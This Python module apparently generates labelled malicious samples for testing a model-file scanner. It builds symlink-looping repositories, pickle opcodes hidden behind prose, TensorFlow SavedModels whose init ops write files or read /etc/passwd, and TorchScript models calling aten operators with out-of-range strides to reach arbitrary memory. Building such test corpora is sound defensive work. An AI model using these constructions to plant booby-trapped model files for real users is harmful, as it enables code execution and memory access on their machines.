"""Vectors that a loader finds by another path than the one that they lie under, behind another beginning, or by a default."""

import io
import json

from attack import FIRED, Table
from attack_formats import MODEL, REMOTE

ATTACKS = Table()
NEVER_CLEAN = ("code", "malicious", "unreadable")
AUTO_MAP = json.dumps({"model_type": "mine", "auto_map": {"AutoConfig": "c.C"}})
GENERATE = f"def generate(model, **o): open('{FIRED}', 'w')\n"

repository = ATTACKS.repository
repository("folder_link_to_a_config", {"config.json": AUTO_MAP, "c.py": REMOTE}, fire="remote_code", links=[("NOTES.txt", "config.json")])
repository("folder_link_to_a_config_in_blobs", {"blobs/config.json": AUTO_MAP, "blobs/c.py": REMOTE}, links=[("NOTES.txt", "blobs/config.json")])
repository("folder_link_to_a_folder", {"model.safetensors": MODEL, "recipes/generate.py": GENERATE}, links=[("custom_generate", "recipes")])
repository("folder_link_to_itself", {"model.safetensors": MODEL, "generate.py": GENERATE}, links=[("custom_generate", ".")])
repository("folder_link_through_a_link", {"a/x/generate.py": GENERATE, "b/read.me": "", "model.safetensors": MODEL}, links=[("b/custom_generate", "../a/x"), ("c", "b")])
repository(
    "folder_links_without_end", {f"{name}/a.txt": "a\n" for name in "abcdefghij"}, ("unreadable",), links=[(f"{a}/{b}", f"../{b}") for a in "abcdefghij" for b in "abcdefghij"]
)

# --- an import alone -------------------------------------------------------------------------------------------------------------
PROSE = "\nThese are the weights.\n"
ATTACKS.text("content-mismatch/prose_behind_an_import", "cevilmod\nx\n." + PROSE, "model.pkl", ("code", "malicious", "unreadable"))
ATTACKS.text("content-mismatch/notes_behind_an_import", "cantigravity\nfly\n." + PROSE, "notes.txt")
ATTACKS.data("content-mismatch/prose_behind_a_named_import", b"Vevilmod\nVx\n\x93." + PROSE.encode(), "notes.txt", ("code", "malicious", "unreadable"))


# --- TensorFlow's graphs, as it saved them in its first version ------------------------------------------------------------------
def graph(folder, build):
    """What build(tf, path) makes runs when the model is loaded; `path` is a placeholder that nobody feeds."""
    import os

    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    import tensorflow as tf

    v1 = tf.compat.v1
    with v1.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [2], name="x")
        y = tf.identity(x + v1.get_variable("w", [2], use_resource=True), "y")
        with tf.control_dependencies([build(tf, v1.placeholder_with_default)]):
            main = tf.no_op("main")
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(str(folder / "model"))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"serving_default": signature}, main_op=main)
        builder.save()
    return folder / "model"


def initial(name, fire=""):
    def put(build):
        ATTACKS.made(f"nested-config/tf_initial_{name}", fire=fire)(lambda folder: graph(folder, build))
        return build

    return put


@initial("save", "savedmodel")
def save(tf, given):
    return tf.raw_ops.Save(filename=given(tf.constant(FIRED), []), tensor_names=["x"], data=[tf.constant("x")])


@initial("merge")
def _(tf, given):
    path = given(tf.constant("/etc/passwd"), [])
    return tf.raw_ops.MergeV2Checkpoints(checkpoint_prefixes=tf.reshape(path, [1]), destination_prefix=path)


@initial("table")
def _(tf, given):
    table = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string, shared_name="t")
    path = given(given(tf.constant("/etc/passwd"), []), [])
    return tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=path, key_index=-1, value_index=-2, vocab_size=-1, delimiter=",", offset=0)


def as_text(name, before, fire=""):
    @ATTACKS.made(f"nested-config/tf_text_{name}", ("unreadable", "malicious"), fire)
    def _(folder):
        path = graph(folder, save)
        from google.protobuf import text_format
        from tensorflow.core.protobuf import saved_model_pb2

        model = saved_model_pb2.SavedModel.FromString((path / "saved_model.pb").read_bytes())
        (path / "saved_model.pb").unlink()
        (path / "saved_model.pbtxt").write_text(before + text_format.MessageToString(model))
        return path


as_text("comment", "# About this model.\n", "savedmodel")
as_text("blank", "\n \n")
ATTACKS.text("nested-config/tf_text_frozen", '# x\nnode: <\n name: "a"\n op : "WriteFile"\n>\n', "graph.pbtxt", ("unreadable",))
ATTACKS.text("nested-config/tf_text_meta", "\n# x\nmeta_info_def: {\n}\n", "model.meta", ("unreadable",))


# --- operators of torch that reach any memory ------------------------------------------------------------------------------------
def script(name, body, verdicts=("malicious",)):
    @ATTACKS.made(f"nested-loader/script_{name}", verdicts)
    def _(folder):
        import torch

        module = torch.jit._recursive.create_script_module(torch.nn.Module(), lambda _: [], share_types=False)
        module.define(f"def forward(self, x: Tensor) -> Tensor:\n    return {body}\n")
        module.save(folder / "model.pt")
        return folder / "model.pt"


script("reshape_alias", "torch.ops.aten._reshape_alias(x, [4], [1 << 34]) + 1")
script("sparse_unsafe", "torch.ops.aten._sparse_coo_tensor_unsafe(torch.tensor([[1 << 36]]), torch.ones([1]), [4]).to_dense()")
for _name, _body in {
    "sparse_of_dims": "_sparse_coo_tensor_with_dims_and_tensors(1, 0, [4], torch.tensor([[1 << 40]]), torch.ones([1]), dtype=torch.float, layout=torch.sparse_coo, device=torch.device('cpu'))",
    "csr_to_coo": "_convert_indices_from_csr_to_coo(torch.tensor([0, 1 << 40]), torch.tensor([0]))",
    "coo_to_csr": "_convert_indices_from_coo_to_csr(torch.tensor([1 << 40, 1 << 41]), 3)",
    "back_of_segments": "_segment_reduce_backward(x, x, x, 'sum', lengths=torch.tensor([1 << 40]))",
    "back_of_bags": "_embedding_bag_dense_backward(x, torch.tensor([1 << 40]), torch.tensor([0]), torch.tensor([1]), torch.tensor([0]), 4, False, 0, None)",
    "back_of_a_pool": "max_pool2d_with_indices_backward(x, x, [2, 2], [2, 2], [0, 0], [1, 1], False, torch.tensor([[[[1 << 40]]]]))",
    "back_of_an_adaptive_pool": "adaptive_max_pool2d_backward(x, x, torch.tensor([[[1 << 40]]]))",
}.items():
    script(_name, f"torch.ops.aten.{_body}")


def convolution(name, position):
    """An honest quantized convolution whose settings (int16: dimensions, strides, paddings, dilations, output paddings, groups) have a 0."""

    @ATTACKS.made(f"nested-loader/{name}")
    def _(folder):
        import torch
        from attack_torch import edited

        class Net(torch.nn.Module):
            def __init__(self):
                super().__init__()
                weight = torch.quantize_per_channel(torch.ones(8, 4, 3, 3), torch.ones(8), torch.zeros(8, dtype=torch.long), 0, torch.qint8)
                self.packed = torch.ops.quantized.conv2d_prepack(weight, torch.ones(8), [1, 1], [0, 0], [1, 1], 1)

            def forward(self, x: torch.Tensor):
                return torch.ops.quantized.conv2d(x, self.packed, 0.1, 0)

        file = io.BytesIO()
        torch.jit.save(torch.jit.script(Net()), file)

        def edit(member, data):
            return data[: 2 * position] + b"\0\0" + data[2 * position + 2 :] if member.endswith("/data/0") else data

        (folder / "model.pt").write_bytes(edited(file.getvalue(), edit))
        return folder / "model.pt"


convolution("convolution_without_groups", 9)
convolution("convolution_without_stride", 1)
script("reinterpret", "torch.ops.inductor._reinterpret_tensor(x, [4], [1], 1 << 40) + 1", ("code", "malicious"))


@ATTACKS.made("nested-loader/export_reshape_alias")
def _(folder):
    import torch

    class Net(torch.nn.Module):
        def forward(self, x):
            return torch.ops.aten._reshape_alias(x, [4], [1]) + 1

    torch.export.save(torch.export.export(Net(), (torch.zeros(4),)), folder / "model.pt2")
    return folder / "model.pt2"
